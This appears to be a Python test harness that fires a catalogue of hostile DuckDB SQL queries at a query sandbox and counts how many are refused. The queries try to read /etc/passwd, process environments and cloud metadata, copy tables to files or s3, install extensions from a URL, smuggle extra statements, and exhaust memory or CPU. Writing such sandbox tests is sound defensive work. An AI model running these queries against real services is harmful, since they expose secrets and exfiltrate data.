"""What somebody might try; `python -m tests.store.sandbox.attacks` tries all of it and counts."""

import tempfile
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

from aigc_data.store.sandbox.errors import (
    OverLimit,
    Refused,
    SandboxError,
    Wrong,
)
from aigc_data.store.sandbox.query import Limits, Query
from aigc_data.store.sandbox.sandbox import Sandbox
from tests.store.sandbox.world import World, private_tables, told, world

Ends = type[SandboxError] | None
PRIVATE = private_tables()
LONG_NAME = "".join(chr(0x4E00 + at * at % 149) for at in range(9_000))
"""With its letters the other way round it is alike in thousands of places."""

CUBE = f"FROM tasks SELECT 1 GROUP BY CUBE ({','.join('abcdefghijklmno')})"
"""Spelled out it has 32,768 groupings, and a tree of megabytes."""

REFUSED: dict[str, tuple[str, ...]] = {
    "read a file": (
        "SELECT * FROM read_text('<SECRET>')",
        "SELECT * FROM read_blob('<SECRET>')",
        "SELECT * FROM read_csv('<SECRET>')",
        "SELECT * FROM read_csv_auto('<SECRET>')",
        "SELECT * FROM read_json('<SECRET>')",
        "SELECT * FROM read_json_objects('<SECRET>')",
        "SELECT * FROM read_ndjson('/etc/passwd')",
        "SELECT * FROM read_parquet('<PARQUET>')",
        "SELECT * FROM parquet_scan(['<PARQUET>'])",
        "SELECT * FROM parquet_metadata('<PARQUET>')",
        "SELECT * FROM parquet_kv_metadata('<PARQUET>')",
        "SELECT * FROM read_duckdb('<DATABASE>', table_name := 'quarantine')",
        "SELECT * FROM sniff_csv('<SECRET>')",
        "SELECT * FROM glob('<ROOT>/*')",
        "SELECT * FROM '<SECRET>'",
        'FROM "<SECRET>"',
        "SELECT * FROM 'file:<SECRET>'",
        "SELECT * FROM '/proc/self/environ'",
        "SELECT (SELECT content FROM read_text('<SECRET>'))",
        "SELECT * FROM tasks WHERE prompt IN (SELECT content FROM read_text('<SECRET>'))",
        "SELECT * FROM tasks, LATERAL (SELECT * FROM read_text('<SECRET>'))",
        "SELECT * FROM (VALUES ((SELECT max(content) FROM read_text('<SECRET>'))))",
        "SELECT list_transform([1], lambda x: (SELECT max(content) FROM read_text('<SECRET>')))",
        "SELECT model FROM tasks ORDER BY (SELECT max(content) FROM read_text('<SECRET>'))",
        "SELECT model FROM tasks LIMIT (SELECT count(*) FROM read_text('<SECRET>'))",
        "SELECT count(*) OVER (ORDER BY (FROM read_text('<SECRET>') SELECT content)) FROM tasks",
        "SELECT * FROM range((SELECT count(*) FROM read_text('<SECRET>')))",
        "PIVOT read_text('<SECRET>') ON size IN (1) USING count(*)",
        "SUMMARIZE SELECT * FROM read_csv('<SECRET>')",
        "DESCRIBE SELECT * FROM read_csv('<SECRET>')",
        "SELECT * FROM (DESCRIBE SELECT * FROM '<SECRET>')",
    ),
    "probe the published folder": (
        "SELECT * FROM '<INNER>'",
        "FROM '<FOLDER>/versions/*.csv'",
        "SELECT * FROM read_csv('<INNER>')",
        "SELECT * FROM read_csv('versions/secret.csv')",
        "SELECT * FROM '/versions/secret.csv'",
        "SELECT * FROM read_text('<FOLDER>/manifest.json')",
        "SELECT * FROM glob('<FOLDER>/**')",
        "SELECT * FROM glob('/**')",
        "SELECT * FROM read_parquet('<FOLDER>/tasks/*.parquet', filename = true)",
        "SELECT * FROM read_csv('<FOLDER>/versions/../../secret.csv')",
    ),
    "write": (
        "COPY tasks TO '<ROOT>/stolen.csv'",
        "COPY (SELECT 1) TO '<FOLDER>/versions/new.parquet'",
        "COPY (SELECT 1) TO '<PARQUET>' (USE_TMP_FILE false)",
        "COPY (SELECT 1) TO '/dev/stdout'",
        "EXPORT DATABASE '<ROOT>/stolen'",
        "IMPORT DATABASE '<ROOT>'",
        "CREATE TABLE mine AS SELECT 1",
        "CREATE OR REPLACE VIEW tasks AS SELECT 1 AS model",
        "CREATE SEQUENCE counting",
        "CREATE TYPE mood AS ENUM ('a')",
        "DROP VIEW tasks",
        "INSERT INTO tasks VALUES (1)",
        "UPDATE tasks SET model = 'x'",
        "DELETE FROM tasks",
        "TRUNCATE tasks",
        "MERGE INTO tasks USING (SELECT 1) ON true WHEN MATCHED THEN DELETE",
        "ALTER VIEW tasks RENAME TO gone",
        "CHECKPOINT",
        "VACUUM",
        "COMMENT ON VIEW tasks IS 'x'",
        "SELECT * FROM checkpoint()",
        "SELECT nextval('counting')",
        "SELECT write_log('x')",
        "SELECT setseed(0.5)",
    ),
    "network": (
        "SELECT * FROM 'http://127.0.0.1:9/x.csv'",
        "SELECT * FROM read_csv('https://example.com/x.csv')",
        "SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/')",
        "SELECT * FROM read_parquet('s3://bucket/x.parquet')",
        "SELECT * FROM 'hf://datasets/a/b.parquet'",
        "COPY tasks TO 's3://bucket/x.parquet'",
    ),
    "environment": (
        "SELECT * FROM read_text('/proc/self/environ')",
        "SELECT * FROM read_blob('/proc/1/environ')",
        "SELECT inet_server_addr()",
        "SELECT pg_postmaster_start_time()",
    ),
    "secrets": (
        "FROM duckdb_secrets()",
        "FROM which_secret('s3://a', 's3')",
        "CREATE SECRET (TYPE s3, KEY_ID 'a', SECRET 'b')",
        "CREATE PERSISTENT SECRET mine (TYPE http)",
        "DROP SECRET mine",
    ),
    "settings": (
        "SET enable_external_access = true",
        "SET GLOBAL memory_limit = '100GB'",
        "RESET lock_configuration",
        "SET lock_configuration = false",
        "SELECT current_setting('secret_directory')",
        "SELECT pg_catalog.current_setting('temp_directory')",
        "SELECT system.main.current_setting('temp_directory')",
        "FROM duckdb_settings()",
        "SELECT * FROM pg_settings",
        "SET VARIABLE mine = 1",
        "SELECT getvariable('mine')",
        "FROM duckdb_variables()",
        "SELECT version()",
        "USE memory",
    ),
    "other databases": (
        "ATTACH '<DATABASE>' AS d",
        "ATTACH '<DATABASE>' (READ_ONLY)",
        "ATTACH ':memory:' AS d",
        "ATTACH 'postgres:host=127.0.0.1' AS p (TYPE postgres)",
        "DETACH memory",
        "FROM duckdb_databases()",
        "SHOW DATABASES",
        "SELECT * FROM d.main.quarantine",
        "SELECT * FROM '<DATABASE>'",
    ),
    "private tables": (
        *(f"SELECT * FROM main.{table}" for table in PRIVATE),
        *(f'FROM memory.MAIN."{table.upper()}"' for table in PRIVATE),
        *(f"SELECT * FROM query_table('{table}')" for table in PRIVATE),
        *(f"SELECT (SELECT t::VARCHAR FROM main.{table} t) FROM tasks" for table in PRIVATE),
        "SELECT * FROM quarantine",
        "SELECT * FROM checkpoint",
        "SELECT body FROM saved_query",
        'SELECT * FROM "quarantine"',
        "SELECT * FROM QUARANTINE",
        "SHOW TABLES",
        "SHOW ALL TABLES",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM sqlite_master",
        "SELECT * FROM pg_catalog.pg_class",
        "FROM duckdb_tables()",
        "FROM duckdb_views",
        "SELECT sql FROM duckdb_views()",
        "SELECT * FROM query('SELECT * FROM quarantine')",
        "SELECT * FROM histogram('quarantine', raw)",
        "SELECT * FROM histogram_values(quarantine, raw)",
        "SELECT * FROM seq_scan('quarantine')",
        "SELECT pg_get_viewdef(0)",
    ),
    "Python": (
        "SELECT * FROM secret",
        "SELECT * FROM os",
        "SELECT * FROM pandas_scan(0)",
        "SELECT * FROM pandas_scan(94000000000000::POINTER)",
        "SELECT * FROM arrow_scan(0::POINTER, 0::POINTER, 0::POINTER)",
        "SELECT * FROM arrow_scan_dumb(1::POINTER, 1::POINTER, 1::POINTER)",
        "SELECT * FROM python_map_function(1)",
    ),
    "extensions": (
        "INSTALL httpfs",
        "LOAD httpfs",
        "LOAD '<SECRET>'",
        "FORCE INSTALL httpfs FROM 'http://127.0.0.1:9'",
        "UPDATE EXTENSIONS",
        "FROM duckdb_extensions()",
    ),
    "PRAGMA and CALL": (
        "PRAGMA version",
        "PRAGMA database_list",
        "PRAGMA table_info('tasks')",
        "PRAGMA show_tables",
        "PRAGMA enable_profiling",
        "PRAGMA add_parquet_key('k', '0123456789112345')",
        "CALL pragma_version()",
        "CALL enable_logging()",
        "FROM pragma_database_size()",
        "FROM pragma_storage_info('tasks')",
        "FROM duckdb_external_file_cache()",
        "FROM duckdb_logs()",
        "FROM duckdb_memory()",
    ),
    "several statements": (
        "SELECT 1; SELECT 2",
        "SELECT 1; DROP VIEW tasks",
        "SELECT 1;;; COPY tasks TO '<ROOT>/stolen.csv';",
        "BEGIN",
        "BEGIN; SELECT 1; COMMIT",
        "SELECT 1 --\n; SET threads = 1",
        "SELECT 1 /* ; */ ; SELECT 2",
    ),
    "prepared statements and macros": (
        "PREPARE p AS SELECT * FROM read_text($1)",
        "EXECUTE p('<SECRET>')",
        "DEALLOCATE p",
        "CREATE MACRO m(a) AS (SELECT max(content) FROM read_text(a))",
        "CREATE TEMP MACRO tasks() AS TABLE SELECT 1",
        "CREATE FUNCTION f(a) AS a",
        "SELECT json_execute_serialized_sql('{}')",
        "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM quarantine'))",
        "EXPLAIN ANALYZE SELECT * FROM tasks",
        "EXPLAIN COPY tasks TO '<ROOT>/stolen.csv'",
    ),
    "comments and odd letters": (
        "/* SELECT */ SET threads = 1",
        "SELECT/**/*/**/FROM/**/read_text/**/('<SECRET>')",
        "-- harmless\nCOPY tasks TO '<ROOT>/stolen.csv'",
        "SELECT\u00a0*\u2003FROM\u3000read_text('<SECRET>')",
        "SELECT * FROM rEaD_tExT('<SECRET>')",
        "SELECT * FROM \"read_text\"('<SECRET>')",
        "SELECT * FROM main.read_text('<SECRET>')",
        "SELECT * FROM system.main.read_text('<SECRET>')",
        "SELECT * FROM read_text(E'\\x2fetc\\x2fpasswd')",
        "SELECT * FROM read_text($$<SECRET>$$)",
        "SELECT 1\x00; SELECT * FROM read_text('<SECRET>')",
        "SELECT '\x1b]0;owned\x07'",
        "SELECT '\ud800'",
        "\ufeffSET threads = 1",
        "",
        " ;; ",
        "-- nothing",
        "SELECT '" + "x" * 20_000 + "'",
    ),
    "slow to parse": (
        "SELECT " + "+" * 19_000 + "1",
        "SELECT " + "+-" * 9_000 + "1",
        "SELECT " + "/*" * 9_000,
        "SELECT " + "/**/" * 4_500 + "1",
        "SELECT 1" + "/*" * 4_500 + "*/" * 4_500,
        "SELECT " + "+/**/" * 3_500 + "1",
        "SELECT 1 " + "/*/" * 6_000,
        "SELECT 1 FORM " + "/**/" * 4_500,
    ),
    "WITH": (
        'WITH "<SECRET>" AS (FROM "<SECRET>") FROM "<SECRET>"',
        'WITH "<SECRET>" AS (SELECT 1) SELECT * FROM main."<SECRET>"',
        'SELECT * FROM (WITH "<SECRET>" AS (SELECT 1) SELECT 1) t, "<SECRET>"',
        "WITH a AS (FROM quarantine), quarantine AS (SELECT 1) FROM a",
        "WITH RECURSIVE quarantine AS (SELECT * FROM quarantine) FROM quarantine",
        "WITH RECURSIVE quarantine AS (FROM quarantine UNION ALL SELECT 1) FROM quarantine",
        "WITH a AS MATERIALIZED (SELECT * FROM read_text('<SECRET>')) SELECT 1",
        "WITH a AS (SELECT 1) DELETE FROM tasks",
        "SELECT * FROM tasks UNION ALL (WITH q AS (FROM quarantine) FROM q)",
        'WITH "<ROOT>/\u212ay.csv" AS (SELECT 1) FROM "<ROOT>/ky.csv"',
    ),
    "sleep": (
        "SELECT sleep_ms(60000)",
        "SELECT pg_sleep(60)",
    ),
}
"""What the gate refuses, by what it is about."""

OTHERWISE: dict[str, tuple[tuple[Ends, str], ...]] = {
    "a name that nothing has": (
        (Wrong, "SELECT getenv('SANDBOX_CANARY')"),
        (Wrong, "SELECT filename FROM tasks"),
        (Wrong, "SELECT file_index, file_row_number FROM tasks"),
        (Wrong, "SELECT tasks.quarantine FROM tasks"),
        (Wrong, "SELECT 1::no_such_type"),
        (Wrong, "SELECT $missing"),
        (Wrong, "SELECT 'x' COLLATE nothing"),
        (Wrong, "SELECT * FROM tasks AT (VERSION => 1)"),
        (Wrong, "SELECT * FROM task"),
        (Wrong, "SELECT * FROM read_xlsx('<SECRET>')"),
        (Wrong, "SELECT * FROM st_read('<SECRET>')"),
        (Wrong, "SELECT * FROM sqlite_scan('<SECRET>', 'a')"),
        (Wrong, "SELECT * FROM postgres_scan('host=127.0.0.1', 'a', 'b')"),
    ),
    "no SQL": (
        (Wrong, "SELECT 'temp_directory'.current_setting()"),
        (Wrong, "SELECT * FROM read_text(U&'\\002Fetc\\002Fpasswd')"),
        (Wrong, "WITH a AS (INSERT INTO tasks VALUES (1)) FROM a"),
        (Wrong, "WITH glob AS (SELECT 1) FROM glob('<ROOT>/*')"),
        (Wrong, "SELECT error('<SECRET>')"),
    ),
    "without end": (
        (OverLimit, "SELECT count(*) FROM range(1000000000000) a, range(1000000000000) b"),
        (OverLimit, "SELECT count(*) FROM tasks a, tasks b, tasks c, tasks d, tasks e, tasks f"),
        (
            OverLimit,
            "WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t) FROM t",
        ),
        (OverLimit, "SELECT sum(levenshtein(repeat('a', 20000), repeat('b', 20000))) FROM tasks"),
    ),
    "memory": (
        (Refused, f"SELECT {','.join([f'({CUBE})'] * 200)}"),
        (OverLimit, "SELECT list(a) FROM range(100000000) t(a)"),
        (OverLimit, "SELECT repeat('x', 4000000000)"),
        (OverLimit, "SELECT repeat(prompt, 10000000) FROM tasks"),
        (OverLimit, "SELECT range(0, 2000000000)"),
        (OverLimit, "SELECT string_agg(repeat('x', 1000000), '') FROM range(1000)"),
        (OverLimit, "SELECT * FROM range(100000000) ORDER BY hash(range)"),
        (OverLimit, "SELECT count(DISTINCT hash(range)) FROM range(1000000000)"),
    ),
    "long names": (
        (Refused, f"WITH {LONG_NAME} AS (SELECT 1) FROM {LONG_NAME[::-1]}"),
        (Wrong, f"SELECT {LONG_NAME[::-1]} FROM (SELECT 1 AS {LONG_NAME})"),
        (Wrong, f"SELECT t.{LONG_NAME[::-1]} FROM (SELECT 1 AS {LONG_NAME}) t"),
        (Wrong, f"SELECT {LONG_NAME[::-1]}.model FROM tasks {LONG_NAME}"),
        (Wrong, f"SELECT {LONG_NAME}(1)"),
        (Wrong, "SELECT '" + "界" * 19_000),
    ),
    "slow patterns": (
        (None, "SELECT regexp_matches(repeat('a', 10000), '^(a+)+$'), 'x' SIMILAR TO '(x+)+y'"),
        (None, "SELECT count(*) FROM tasks WHERE prompt ~ '(a*)*b'"),
        (Wrong, "SELECT regexp_matches('a', '((a{1,500}){1,500}){1,500}')"),
    ),
    "depth": (
        (Refused, "SELECT " + "abs(" * 900 + "1" + ")" * 900),
        (Refused, "SELECT " + "CASE WHEN true THEN " * 400 + "1" + " END" * 400),
        (Refused, "SELECT * FROM " + "(DESCRIBE " * 900 + "SELECT 1" + ")" * 900),
        (None, "SELECT " + "(" * 5000 + "1" + ")" * 5000),
    ),
    "harmless": (
        (None, "SELECT current_user, current_schema, current_catalog, user"),
        (None, "SELECT * FROM main.tasks"),
        (None, "WITH quarantine AS (SELECT 1) FROM quarantine"),
        (None, "SELECT '<SECRET>' AS path, 'SET threads = 1; DROP VIEW tasks'"),
        (None, "SUMMARIZE tasks"),
    ),
}
"""What ends in another way: None is an answer like any other."""
LIMITS = Limits(seconds=60, memory_mb=100)
SHORT = Limits(seconds=0.6, memory_mb=100)
"""For what has to end at a limit."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One text, what it is after, and how it has to end."""

    about: str
    text: str
    ends: Ends

    def __str__(self) -> str:
        return f"{self.about}: {self.text[:60]}"


ATTACKS = [
    *(Attack(about, text, Refused) for about, texts in REFUSED.items() for text in texts),
    *(Attack(about, text, ends) for about, some in OTHERWISE.items() for ends, text in some),
]


def attempt(sandbox: Sandbox, text: str, limits: Limits) -> tuple[Ends, str]:
    """Return how the text ends in the sandbox, and all that it says."""
    try:
        answer = sandbox.ask(Query(text, limits=limits))
    except SandboxError as error:
        return type(error), str(error)
    return None, str(answer.table.to_pylist()) + str(answer.columns)


def blocked(made: World, sandbox: Sandbox, attack: Attack) -> bool:
    """Return whether the attack ended as it has to, told no secret and changed nothing."""
    before = made.state()
    limits = SHORT if attack.ends is OverLimit else LIMITS
    ended, said = attempt(sandbox, made.filled(attack.text), limits)
    return ended is attack.ends and not told(said) and made.state() == before


def main() -> None:
    """Try all, and print how many were blocked."""
    with (
        tempfile.TemporaryDirectory() as folder,
        world(Path(folder)) as made,
        Sandbox(made.folder) as sandbox,
    ):
        done = [(attack.about, blocked(made, sandbox, attack)) for attack in ATTACKS]
    tried, held = Counter(about for about, _ in done), Counter(about for about, ok in done if ok)
    for about, count in tried.items():
        print(f"| {about} | {count} | {held[about]} |")  # noqa: T201
    print(f"| all | {tried.total()} | {held.total()} |")  # noqa: T201


if __name__ == "__main__":
    main()
